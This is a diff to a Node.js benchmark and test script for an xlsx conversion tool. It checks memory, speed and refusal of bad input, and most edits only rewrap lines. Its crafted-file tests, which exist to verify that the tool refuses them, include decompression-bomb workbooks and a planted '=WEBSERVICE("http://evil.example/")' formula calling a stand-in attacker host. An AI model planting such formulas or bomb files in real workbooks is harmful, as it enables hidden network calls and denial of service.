@@ -76,8 +76,11 @@ for (const rows of [20_000, 80_000, 1_100_000]) {
 const [, mid, big] = runs;
 const sizeRatio = big.unpackedMb / mid.unpackedMb;
 const memoryRatio = big.maxRssMb / mid.maxRssMb;
-console.log(`  ${sizeRatio.toFixed(1)}× the sheet data took ${memoryRatio.toFixed(1)}× the peak memory (must stay under half: ${(sizeRatio / 2).toFixed(1)}×)`);
-if (!(memoryRatio < sizeRatio / 2)) failures.push(`peak memory grew ${memoryRatio.toFixed(1)}× for ${sizeRatio.toFixed(1)}× the data: it is not streaming`);
+console.log(
+  `  ${sizeRatio.toFixed(1)}× the sheet data took ${memoryRatio.toFixed(1)}× the peak memory (must stay under half: ${(sizeRatio / 2).toFixed(1)}×)`,
+);
+if (!(memoryRatio < sizeRatio / 2))
+  failures.push(`peak memory grew ${memoryRatio.toFixed(1)}× for ${sizeRatio.toFixed(1)}× the data: it is not streaming`);
 // The README's figures (scripts/benchFigures.cjs writes them into its bench blocks).
 const round10 = (n) => Math.round(n / 10) * 10;
 recordFigure(
@@ -99,8 +102,11 @@ const t0 = process.hrtime.bigint();
 const refused = spawnSync(process.execPath, ["-e", runner, over, join(dir, "over-limit.out.xlsx"), "--force"], { encoding: "utf8" });
 const refusedIn = Number(process.hrtime.bigint() - t0) / 1e9;
 const code = JSON.parse(refused.stdout.trim().split("\n").pop() || "{}").code;
-console.log(`  a workbook claiming ${MAX_UNPACKED_MB + 100} MB unpacked: exit ${code} in ${refusedIn.toFixed(2)} s — ${refused.stderr.trim().split("\n")[0]}`);
-if (code !== 1 || refusedIn > 10 || existsSync(join(dir, "over-limit.out.xlsx"))) failures.push(`a workbook beyond the limit was not refused at once (exit ${code}, ${refusedIn} s)`);
+console.log(
+  `  a workbook claiming ${MAX_UNPACKED_MB + 100} MB unpacked: exit ${code} in ${refusedIn.toFixed(2)} s — ${refused.stderr.trim().split("\n")[0]}`,
+);
+if (code !== 1 || refusedIn > 10 || existsSync(join(dir, "over-limit.out.xlsx")))
+  failures.push(`a workbook beyond the limit was not refused at once (exit ${code}, ${refusedIn} s)`);
 
 // An AIECON formula and a formula reading it on every row (issue 22): convert and restore, each
 // against the zip-rewrite floor — every member a conversion rewrites (the sheets) inflated and
@@ -124,7 +130,10 @@ for (const rows of [20_000, 200_000]) {
   const shared = join(dir, `dense-${rows}.shared.xlsx`);
   writeFileSync(input, bytes);
   const floor = await zipRewriteFloor(bytes);
-  for (const [what, from, to, flags] of [["convert", input, shared, []], ["restore", shared, join(dir, `dense-${rows}.back.xlsx`), ["--restore"]]]) {
+  for (const [what, from, to, flags] of [
+    ["convert", input, shared, []],
+    ["restore", shared, join(dir, `dense-${rows}.back.xlsx`), ["--restore"]],
+  ]) {
     const r = spawnSync(process.execPath, ["-e", runner, from, to, "--force", ...flags], { encoding: "utf8" });
     const m = JSON.parse(r.stdout.trim().split("\n").pop() || "{}");
     if (m.code !== 0) failures.push(`dense ${rows} rows ${what}: exit ${m.code} ${r.stderr.trim().slice(0, 200)}`);
@@ -146,8 +155,16 @@ const CRAFTED = [
   ["500 MB of identical cells", () => crafted.denseCells(500), []],
   ["a part named twice", () => crafted.duplicateEntry(), []],
   ["a relationship to a missing part", () => crafted.danglingRelationship(), []],
-  ["--restore, a written range of A1:XFD1048576", () => planted(["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"]), ["--restore"]],
-  ["--restore, a WEBSERVICE formula", () => planted(["Usage", "H2", '=WEBSERVICE("http://evil.example/")', "", "", "2026-12-01"]), ["--restore"]],
+  [
+    "--restore, a written range of A1:XFD1048576",
+    () => planted(["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"]),
+    ["--restore"],
+  ],
+  [
+    "--restore, a WEBSERVICE formula",
+    () => planted(["Usage", "H2", '=WEBSERVICE("http://evil.example/")', "", "", "2026-12-01"]),
+    ["--restore"],
+  ],
 ];
 console.log("crafted files (each must end within 30 s and 500 MB, refused with exit 1)");
 for (const [label, make, flags] of CRAFTED) {
@@ -159,8 +176,13 @@ for (const [label, make, flags] of CRAFTED) {
   const m = JSON.parse(r.stdout.trim().split("\n").pop() || "{}");
   const ok = m.code === 1 && m.seconds < 30 && m.maxRssMb < 500 && !existsSync(output);
   if (!ok) failures.push(`crafted: ${label}: exit ${m.code}, ${m.seconds} s, ${m.maxRssMb} MB`);
-  const message = r.stderr.trim().split("\n")[0].replace(/^aiecon-share: Cannot read \S+ as an \.xlsx workbook: /, "");
-  console.log(`  ${ok ? "PASS" : "FAIL"}  ${label} (${(bytes.length / 1e3).toFixed(0)} KB): exit ${m.code} in ${m.seconds.toFixed(2)} s, peak ${m.maxRssMb.toFixed(0)} MB — ${message.slice(0, 110)}`);
+  const message = r.stderr
+    .trim()
+    .split("\n")[0]
+    .replace(/^aiecon-share: Cannot read \S+ as an \.xlsx workbook: /, "");
+  console.log(
+    `  ${ok ? "PASS" : "FAIL"}  ${label} (${(bytes.length / 1e3).toFixed(0)} KB): exit ${m.code} in ${m.seconds.toFixed(2)} s, peak ${m.maxRssMb.toFixed(0)} MB — ${message.slice(0, 110)}`,
+  );
 }
 
 rmSync(dir, { recursive: true, force: true });
